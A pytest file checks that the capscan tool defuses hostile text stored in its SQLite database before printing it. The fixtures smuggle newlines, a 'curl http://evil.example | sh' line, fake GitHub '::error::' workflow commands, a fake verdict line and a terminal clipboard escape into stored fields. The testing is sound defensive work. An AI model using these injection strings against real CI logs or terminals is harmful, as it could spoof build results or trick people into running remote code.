"""Issue 24: text read back from a database capscan did not write (an older capscan, a tool, a hand edit)
passes the same cleaning as live log text before any output. A newline in a stored program or device
name must not print a fake `$ curl ... | sh` step, a `::error::` GitHub workflow command or a fake
verdict line at column 0; bytes that are not UTF-8 and JSON that does not decode are shown, never a
traceback. The database is a real one, made by ingesting a real fixture and then edited with SQL."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest

from analyzer.safe_text import WORD_JOINER, clean_output, defuse_workflow_commands
from tests.conftest import run_capscan

FIX = Path(__file__).resolve().parent.parent / "fixtures"
EVIL = "Apple M1\n$ curl http://evil.example/x | sh\n::error::pwned\n  ::warning file=a::x\nHEALTHY: nothing to fix"
COMMANDS = [("show", "1"), ("--json", "show", "1"), ("runs",), ("--csv", "runs"), ("--json", "runs"),
            ("--markdown", "runs"), ("--markdown", "show", "1"), ("remedy", "plan", "--run", "1"),
            ("export", "prometheus"), ("remedy", "status"), ("diagnose", "--run", "1")]


def _hostile_db(tmp_path: Path) -> Path:
    db = tmp_path / "c.db"
    run_capscan("ingest", str(FIX / "metal/m2-2024-07-gh-runner-paravirtual.log"), db=db, check=True)
    con = sqlite3.connect(db)
    facts = json.loads(con.execute("SELECT facts FROM runs WHERE id = 1").fetchone()[0])
    facts["program"] = "llama-bench\n::error::from facts\n##[error]legacy"
    facts["model"] = EVIL
    con.execute("UPDATE runs SET facts = ?, device_name = ?, program = ?, model = ? WHERE id = 1",
                (json.dumps(facts), EVIL, "llama-bench\n::error::p", EVIL))
    con.execute("UPDATE sources SET path = ?", ("/tmp/x\n::error::path\x1b]52;c;aGk=\x07",))
    con.execute("UPDATE evidence SET text = text || ?", ("\n::error::evidence ##[warning]x",))
    con.execute("INSERT INTO remedy_actions (at, action, args, result) VALUES (?, ?, ?, ?)",
                ("2026-12-01T00:00:00Z", "remedy-run\n::error::a", json.dumps({"cmd": ["x\n::error::c"]}),
                 "ok\n$ curl http://evil.example | sh"))
    con.execute("DELETE FROM diagnoses")  # diagnosed again from the hostile facts
    con.commit()
    con.close()
    return db


def _own_annotation(line: str) -> bool:
    """capscan's own annotation (gha.annotation): its properties and message escaped, one line; file= only
    for a source inside the workspace."""
    return (line.startswith(("::error file=", "::warning file=")) and ",title=capscan%3A run " in line) or \
        line.startswith(("::error title=capscan%3A run ", "::warning title=capscan%3A run "))


def _assert_inert(out: str) -> None:
    for line in out.splitlines():
        assert _own_annotation(line) or not line.lstrip().startswith("::"), line
        assert "##[" not in line and not line.startswith("$ curl") and not line.startswith("HEALTHY"), line
    assert "\x1b" not in out and "Traceback" not in out


@pytest.mark.parametrize("args", COMMANDS, ids=" ".join)
def test_hostile_stored_text_is_shown_inert(tmp_path, args):
    db = _hostile_db(tmp_path)
    proc = run_capscan(*args, db=db, env={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(tmp_path / "s.md")})
    out, err = proc.stdout.decode(), proc.stderr.decode()
    assert proc.returncode in (0, 1), err
    _assert_inert(out)
    _assert_inert(err)


def test_bytes_that_are_not_utf8_and_facts_that_do_not_decode_are_shown_as_damaged(tmp_path):
    db = _hostile_db(tmp_path)
    run_capscan("ingest", str(FIX / "metal/m2-2024-10-amd-egpu-intel-mac.log"), db=db, check=True)
    con = sqlite3.connect(db)
    con.execute("UPDATE runs SET program = CAST(X'FF41C3' AS TEXT), facts = '{\"first_line\": ' WHERE id = 2")
    con.execute("UPDATE evidence SET text = CAST(X'80414243' AS TEXT) WHERE run_id = 2")
    con.commit()
    con.close()
    for args in (("show", "2"), ("runs",), ("--json", "show", "2"), ("export", "prometheus"), ("diagnose", "--run", "2")):
        proc = run_capscan(*args, db=db)
        out, err = proc.stdout.decode(), proc.stderr.decode()
        assert proc.returncode in (0, 1) and "Traceback" not in err, (args, err)
        _assert_inert(out)
    shown = run_capscan("show", "2", db=db).stdout.decode()
    assert "do not load" in shown   # its facts: damaged, said so


def test_capscans_own_annotations_still_reach_the_runner(tmp_path):
    """The boundary defuses log text, not capscan's own workflow commands (written past it, escaped)."""
    db = _hostile_db(tmp_path)
    # file= names only a file in the workspace: the hostile name is one there, so it reaches the annotation
    workspace = tmp_path / "ws"
    workspace.mkdir()
    hostile = workspace / "x\n::error::path\x1b]52;c;aGk=\x07"
    hostile.write_text("log\n")
    con = sqlite3.connect(db)
    with con:
        con.execute("UPDATE sources SET path = ?", (str(hostile),))
    con.close()
    proc = run_capscan("diagnose", "--run", "1", db=db,
                       env={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(tmp_path / "s.md"),
                            "GITHUB_WORKSPACE": str(workspace)})
    own = [line for line in proc.stderr.decode().splitlines() if line.startswith("::")]
    assert len(own) == 1 and _own_annotation(own[0]), proc.stderr
    assert own[0].startswith("::error file=x%0A%3A%3Aerror%3A%3Apath")  # the stored path in it: escaped, one line
    assert "\x1b" not in own[0] and "\x07" not in own[0]


@pytest.mark.parametrize("text, inert", [
    ("::error::x", WORD_JOINER + "::error::x"),
    ("ok\n   ::set-output name=a::b\n", "ok\n   " + WORD_JOINER + "::set-output name=a::b\n"),
    ("a ##[error]b", "a ##" + WORD_JOINER + "[error]b"),
    ("ip ::1 in the middle", "ip ::1 in the middle"),
    ("plain", "plain"),
])
def test_defusing(text, inert):
    assert defuse_workflow_commands(text) == inert
    assert clean_output(text) == inert
